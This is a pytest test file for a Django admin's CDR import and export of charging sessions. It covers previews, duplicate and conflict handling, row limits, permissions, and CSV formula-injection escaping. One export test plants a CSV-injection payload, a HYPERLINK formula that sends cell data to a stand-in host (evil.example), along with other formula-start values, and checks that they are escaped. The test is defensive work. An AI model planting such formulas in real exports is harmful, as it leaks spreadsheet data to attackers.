"""The sessions admin's import-export door (django-import-export): CDR files of up to 10,000 rows,
previewed and confirmed, checked by the one validator and stored by the one store; and exports
of the user's sessions with every formula-like text cell made safe."""

import csv
import io
import tempfile
from dataclasses import dataclass
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from emobility.models import CdrImport, ChargingSession, Evse
from emobility.spreadsheet import FORMULA_STARTS
from tariffs.models import RatingRun, SessionPrice, TariffAssignment
from tariffs.services import sessions_rate, tariff_assign
from tests.factories import (
    CustomerFactory,
    EvseFactory,
    MembershipFactory,
    OperatorFactory,
    SessionFactory,
    TariffFactory,
    TariffVersionFactory,
    TokenFactory,
)

pytestmark = pytest.mark.django_db

CANONICAL = ["cdr_id", "start", "end", "evse_id", "energy_kwh", "token_uid"]
IMPORT_URL = "admin:emobility_chargingsession_import"
CONFIRM_URL = "admin:emobility_chargingsession_process_import"
EXPORT_URL = "admin:emobility_chargingsession_export"


@pytest.fixture(autouse=True)
def preview_folder(tmp_path, monkeypatch):
    """The previews' temporary files in the test's own folder (an unconfirmed preview stays
    there until the next upload sweeps it a day later)."""
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    return tmp_path


@dataclass
class Network:
    operator: object
    evse: Evse
    token: object
    finance: object


@pytest.fixture
def net(db) -> Network:
    """A network with a tariff in force (modelled on tests/integration/cdrs/conftest.py), and a
    finance user of its operator."""
    operator = OperatorFactory(code="acme", name="Acme Charging")
    evse = EvseFactory(station__location__operator=operator, evse_id="NL*ACM*E00001*1",
                       station__identity="CS-AMS-1", max_power_kw=Decimal("22"),
                       station__location__name="Amsterdam Centraal")
    token = TokenFactory(customer__operator=operator, uid="04A1B2C3D4E5F6")
    tariff = TariffFactory(operator=operator)
    TariffVersionFactory(tariff=tariff, energy_price=Decimal("0.40"))
    tariff_assign(tariff=tariff, level=TariffAssignment.Level.NETWORK,
                  valid_from=datetime(2020, 1, 1, tzinfo=UTC))
    finance = MembershipFactory(operator=operator, role="finance").user
    return Network(operator, evse, token, finance)


def csv_bytes(header, rows, delimiter=",") -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue().encode("utf-8")


def row(cdr_id="CDR-1", start="2026-10-01T08:00:00Z", end="2026-10-01T10:00:00Z",
        evse="NL*ACM*E00001*1", energy="20.5", token="04A1B2C3D4E5F6"):
    return [cdr_id, start, end, evse, energy, token]


def preview(client, operator, data: bytes, name="cdrs.csv"):
    return client.post(reverse(IMPORT_URL), {
        "operator": operator.pk, "format": "0", "resource": "0",
        "import_file": SimpleUploadedFile(name, data, content_type="text/csv")})


def confirm(client, preview_response, **kwargs):
    form = preview_response.context["confirm_form"]
    return client.post(reverse(CONFIRM_URL), {
        name: form.initial.get(name, "") for name in form.fields}, **kwargs)


def import_file(client, operator, data: bytes):
    response = preview(client, operator, data)
    assert response.context["confirm_form"] is not None
    return confirm(client, response)


def test_the_import_page_lists_the_profiles_and_preselects_the_operator(client, net):
    client.force_login(net.finance)
    html = client.get(reverse(IMPORT_URL)).content.decode()
    assert f'<option value="{net.operator.pk}" selected>Acme Charging</option>' in html
    assert "CPO portal export" in html and "OCPI-derived export" in html
    assert "10,000 rows" in html and reverse("admin:emobility_cdrimport_add") in html
    sessions = client.get(reverse("admin:emobility_chargingsession_changelist")).content \
        .decode()
    assert reverse(IMPORT_URL) in sessions and reverse(EXPORT_URL) in sessions


def test_the_preview_shows_new_skipped_and_invalid_rows_and_confirm_stores_the_new_once(
        client, net, preview_folder):
    client.force_login(net.finance)
    import_file(client, net.operator, csv_bytes(CANONICAL, [row("CDR-OLD"),
                                                            row("CDR-TAKEN", energy="10")]))
    assert ChargingSession.objects.count() == 2
    data = csv_bytes(CANONICAL, [
        row("CDR-OLD"),                                   # the same CDR again: skipped
        row("CDR-TAKEN", energy="11"),                    # same id, other content: conflict
        row("CDR-NEW", energy="7,5"),                     # new (decimal comma)
        row("CDR-BAD", evse="NL*ACM*E99999*1"),           # refused by the validator
        row("CDR-LATE", end="2026-10-01T07:00:00Z"),      # refused: ends before it starts
    ])
    response = preview(client, net.operator, data)
    assert response.status_code == 200
    result = response.context["result"]
    assert (result.totals["new"], result.totals["skip"], result.totals["invalid"]) == (1, 1, 3)
    assert {r.object_repr: r.import_type for r in result.rows} == {
        "CDR-OLD": "skip", "CDR-TAKEN": "invalid", "CDR-NEW": "new", "CDR-BAD": "invalid",
        "CDR-LATE": "invalid"}
    invalid = {r.values[1]: r for r in result.invalid_rows}
    assert invalid["CDR-BAD"].number == "5"  # the file's line (the header is line 1)
    assert invalid["CDR-BAD"].field_specific_errors == {
        "evse_id": ["is not an EVSE of this operator ('NL*ACM*E99999*1')"]}
    assert "is not after start" in invalid["CDR-LATE"].field_specific_errors["end"][0]
    assert "already received on row 3 with other content" in \
        invalid["CDR-TAKEN"].field_specific_errors["cdr_id"][0]
    html = response.content.decode()
    assert "Rows that will not be imported" in html
    assert "New rows, and rows already stored (skipped)" in html
    assert "is not an EVSE of this operator" in html
    assert "Already stored, with the same content" in html
    assert response.context["confirm_form"] is not None  # the new row may be imported
    assert "Confirm to store the new session and rate it." in html
    # the preview stored nothing
    assert ChargingSession.objects.count() == 2
    assert CdrImport.objects.count() == 1

    done = confirm(client, response, follow=True)
    assert done.status_code == 200
    assert "5 rows: 1 imported, 1 duplicates, 1 conflicts, 2 refused." in \
        done.content.decode()
    assert sorted(ChargingSession.objects.values_list("external_id", flat=True)) == [
        "CDR-NEW", "CDR-OLD", "CDR-TAKEN"]
    new = ChargingSession.objects.get(external_id="CDR-NEW")
    assert new.energy_kwh == Decimal("7.5000")
    assert (new.source, new.status, new.import_row) == ("csv", "settled", 4)  # rated, then settled
    assert new.fingerprint  # written by the one store
    assert ChargingSession.objects.get(external_id="CDR-TAKEN").energy_kwh == Decimal("10")
    job = new.cdr_import
    assert (job.door, job.status, job.created_by) == ("admin", "done", net.finance)
    assert (job.rows, job.imported, job.duplicates, job.conflicts, job.errors, job.rated) == (
        5, 1, 1, 1, 2, 1)
    assert job.error_rows.count() == 3 and job.error_report
    assert RatingRun.objects.filter(trigger="import", actor=net.finance).exists()
    assert SessionPrice.objects.filter(session=new, is_current=True).exists()

    # the same confirmation again adds nothing
    assert not list(preview_folder.glob("emobility-cdr-preview-*"))  # confirmed: removed
    again = confirm(client, response, follow=True)
    assert "This file was imported already" in again.content.decode()
    assert ChargingSession.objects.count() == 3
    assert CdrImport.objects.count() == 2


def test_a_row_repeating_a_conflicting_row_is_a_conflict_too(client, net):
    client.force_login(net.finance)
    import_file(client, net.operator, csv_bytes(CANONICAL, [row("CDR-1", energy="10")]))
    response = preview(client, net.operator, csv_bytes(CANONICAL, [
        row("CDR-1", energy="11"), row("CDR-1", energy="11"), row("CDR-2")]))
    result = response.context["result"]
    assert (result.totals["new"], result.totals["skip"], result.totals["invalid"]) == (1, 0, 2)
    assert response.context["cdr_summary"]["conflicts"] == 2
    confirm(client, response)
    job = CdrImport.objects.order_by("pk").last()
    assert (job.imported, job.duplicates, job.conflicts) == (1, 0, 2)
    assert ChargingSession.objects.get(external_id="CDR-1").energy_kwh == Decimal("10")


def test_importing_the_same_file_again_adds_nothing(client, net):
    client.force_login(net.finance)
    data = csv_bytes(CANONICAL, [row("CDR-1"), row("CDR-2")])
    import_file(client, net.operator, data)
    response = preview(client, net.operator, data)
    result = response.context["result"]
    assert (result.totals["new"], result.totals["skip"]) == (0, 2)
    assert response.context.get("confirm_form") is None
    assert "Nothing new to import" in response.content.decode()
    assert ChargingSession.objects.count() == 2


def test_two_previews_of_one_file_confirmed_store_its_rows_once(client, net):
    client.force_login(net.finance)
    data = csv_bytes(CANONICAL, [row("CDR-1"), row("CDR-2")])
    first, second = preview(client, net.operator, data), preview(client, net.operator, data)
    confirm(client, first)
    confirm(client, second)
    assert ChargingSession.objects.count() == 2
    jobs = list(CdrImport.objects.order_by("pk").values_list("imported", "duplicates"))
    assert jobs == [(2, 0), (0, 2)]


def test_a_tab_separated_file_of_another_profile_is_read_like_an_import_job_reads_it(client,
                                                                                    net):
    client.force_login(net.finance)
    header = ["Charge ID", "Station ID", "EVSE-ID", "Start time", "Stop time", "Energy (Wh)",
              "Card number"]
    data = csv_bytes(header, [["CH-1", "CS-AMS-1", "NL*ACM*E00001*1", "01-10-2026 10:00",
                               "01-10-2026 12:00", "20500", "04A1B2C3D4E5F6"]], delimiter="\t")
    response = preview(client, net.operator, data, name="portal.tsv")
    assert response.context["result"].totals["new"] == 1
    assert "CPO portal export" in response.content.decode()
    assert "2026-10-01 08:00:00" in response.content.decode()  # 10:00 Amsterdam, in UTC
    confirm(client, response)
    session = ChargingSession.objects.get()
    assert session.energy_kwh == Decimal("20.5000")
    assert session.start == datetime(2026, 10, 1, 8, tzinfo=UTC)


@pytest.mark.parametrize(("name", "data", "message"), [
    ("cdrs.xlsx", b"PK\x03\x04" + b"\x00" * 100, "Excel workbook (.xlsx)"),
    ("cdrs.csv", b"\x00\x01binary\x00" * 10, "This is a binary file"),
    ("cdrs.csv", b"name,colour\r\nA,red\r\n", "No import profile recognises this header"),
])
def test_a_file_that_cannot_be_read_is_a_form_error(client, net, name, data, message):
    client.force_login(net.finance)
    response = preview(client, net.operator, data, name=name)
    assert message in " ".join(response.context["form"].errors["import_file"])
    assert response.context.get("result") is None
    assert CdrImport.objects.count() == 0


def test_a_file_of_more_than_10000_rows_is_sent_to_the_import_jobs(client, net):
    client.force_login(net.finance)
    data = csv_bytes(CANONICAL, [row(f"CDR-{n}") for n in range(10_001)])
    response = preview(client, net.operator, data)
    errors = " ".join(response.context["form"].errors["import_file"])
    assert "more than 10,000 rows" in errors and "CDR imports" in errors
    assert f'<a href="{reverse("admin:emobility_cdrimport_add")}">Go to CDR imports.</a>' in \
        response.content.decode()
    assert response.context.get("result") is None
    assert ChargingSession.objects.count() == 0


def test_a_file_of_10000_rows_is_previewed_imported_and_rated(client, net):
    client.force_login(net.finance)
    data = csv_bytes(CANONICAL, [row(f"CDR-{n}", start=f"2026-10-01T08:{n % 60:02d}:00Z")
                                 for n in range(10_000)])
    response = preview(client, net.operator, data)
    assert response.context["result"].totals["new"] == 10_000
    confirm(client, response)
    job = CdrImport.objects.get()
    assert (job.imported, job.rated) == (10_000, 10_000)


def test_the_operator_of_the_import_must_be_the_users(client, net):
    other = OperatorFactory(name="Beta Volt")
    client.force_login(net.finance)
    response = preview(client, other, csv_bytes(CANONICAL, [row()]))
    assert "operator" in response.context["form"].errors
    assert ChargingSession.objects.count() == 0


def test_an_unexpected_error_in_the_preview_is_shown_without_a_traceback(client, net,
                                                                        monkeypatch):
    def broken_store(**kwargs):
        raise RuntimeError("the database is on fire")

    monkeypatch.setattr("emobility.resources.store", broken_store)
    client.force_login(net.finance)
    response = preview(client, net.operator, csv_bytes(CANONICAL, [row("CDR-1"), row("CDR-2")]))
    html = response.content.decode()
    assert "the database is on fire" in html
    assert "Traceback" not in html
    assert response.context.get("confirm_form") is None
    assert ChargingSession.objects.count() == 0


def test_a_confirmation_for_another_operator_imports_nothing(client, net):
    other = OperatorFactory(name="Beta Volt")
    client.force_login(net.finance)
    response = preview(client, net.operator, csv_bytes(CANONICAL, [row()]))
    form = response.context["confirm_form"]
    data = {name: form.initial.get(name, "") for name in form.fields}
    data["operator"] = other.pk
    tampered = client.post(reverse(CONFIRM_URL), data)
    assert tampered.status_code == 200
    assert "operator" in tampered.context["confirm_form"].errors
    assert ChargingSession.objects.count() == 0
    assert CdrImport.objects.count() == 0


def test_a_viewer_may_export_but_not_import(client, net):
    viewer = MembershipFactory(operator=net.operator, role="viewer").user
    client.force_login(viewer)
    assert client.get(reverse(IMPORT_URL)).status_code == 403
    assert preview(client, net.operator, csv_bytes(CANONICAL, [row()])).status_code == 403
    assert client.get(reverse(EXPORT_URL)).status_code == 200
    assert ChargingSession.objects.count() == 0


# --- export --------------------------------------------------------------------------------------

def export_rows(client) -> list[dict]:
    page = client.get(reverse(EXPORT_URL))
    form = page.context["form"]
    data = {"format": "0", "resource": "0"}
    data.update({name: "on" for name, field in form.fields.items()
                 if getattr(field, "is_selectable_field", False)})
    response = client.post(reverse(EXPORT_URL), data)
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")  # so that spreadsheets read it as UTF-8
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


def test_the_export_makes_every_formula_like_text_cell_plain_text(client, net):
    customer = CustomerFactory(operator=net.operator, name="-2", reference="@SUM(A1)")
    token = TokenFactory(customer=customer, uid="+1")
    SessionFactory(evse=net.evse, token=token, customer=customer, contract_id="\tNL-TAB",
                   external_id='=HYPERLINK("http://evil.example/?x="&A1,"click")',
                   energy_kwh=Decimal("12.3456"), charging_seconds=3630, parking_seconds=0)
    client.force_login(net.finance)
    [exported] = export_rows(client)
    assert exported["cdr_id"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'
    assert exported["token_uid"] == "'+1"
    assert exported["customer_name"] == "'-2"
    assert exported["customer_reference"] == "'@SUM(A1)"
    assert exported["contract_id"] == "'\tNL-TAB"
    for column, value in exported.items():
        assert not value.startswith(FORMULA_STARTS), (column, value)
    # numbers and times are left as they are
    assert exported["energy_kwh"] == "12.3456"
    assert exported["charging_minutes"] == "60.50"
    assert exported["start_utc"].endswith("Z") and exported["start_utc"].startswith("2026-")
    assert exported["location"] == "Amsterdam Centraal"


def test_the_export_holds_only_the_users_sessions_with_their_current_price(client, net):
    mine = SessionFactory(evse=net.evse, external_id="CDR-MINE")
    sessions_rate(session_ids=[mine.pk])
    other = OperatorFactory(name="Beta Volt")
    SessionFactory(evse=EvseFactory(station__location__operator=other),
                   external_id="BETA-SECRET")
    client.force_login(net.finance)
    rows = export_rows(client)
    assert [r["cdr_id"] for r in rows] == ["CDR-MINE"]
    assert rows[0]["status"] == "rated"
    price = SessionPrice.objects.get(session=mine, is_current=True)
    assert rows[0]["price_incl_vat"] == str(price.total_incl_vat.amount)
    assert rows[0]["currency"] == "EUR"
